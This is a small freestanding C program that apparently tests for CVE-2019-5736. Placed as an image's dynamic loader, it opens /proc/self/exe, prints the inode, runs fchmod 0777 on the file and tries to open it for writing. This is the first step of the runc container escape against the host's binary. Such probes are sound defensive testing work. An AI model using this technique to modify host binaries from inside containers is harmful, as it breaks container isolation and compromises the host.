/* A program without a C library that can be anything: command, script interpreter, dynamic loader of another program.
 * As /lib64/ld-linux-x86-64.so.2 of an image it runs in place of the loader of whatever dynamic program is executed
 * there: should that be the host's interpreter, /proc/self/exe is the host's file. It says its inode and tries to
 * change it (CVE-2019-5736): by chmod, which works while the file is in use, and by opening it for writing. */

static long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

static void number(const char *what, long value) {
    char text[64];
    int end = sizeof text, at = end;
    unsigned long rest = value < 0 ? -value : value;
    text[--at] = '\n';
    do { text[--at] = '0' + rest % 10; } while (rest /= 10);
    if (value < 0) text[--at] = '-';
    text[--at] = ' ';
    int length = 0;
    while (what[length]) length++;
    for (int i = length; i--;) text[--at] = what[i];
    call(1, 1, (long)(text + at), end - at);
}

__attribute__((force_align_arg_pointer)) void _start(void) {
    unsigned long info[32];
    long fd = call(2, (long)"/proc/self/exe", 0, 0);            /* open, O_RDONLY */
    number("open", fd);
    call(5, fd, (long)info, 0);                                  /* fstat */
    number("inode", info[1]);
    number("chmod", call(91, fd, 0777, 0));                      /* fchmod */
    number("write", call(2, (long)"/proc/self/exe", 1, 0));      /* open, O_WRONLY: -26 ETXTBSY while in use */
    call(231, 0, 0, 0);
}
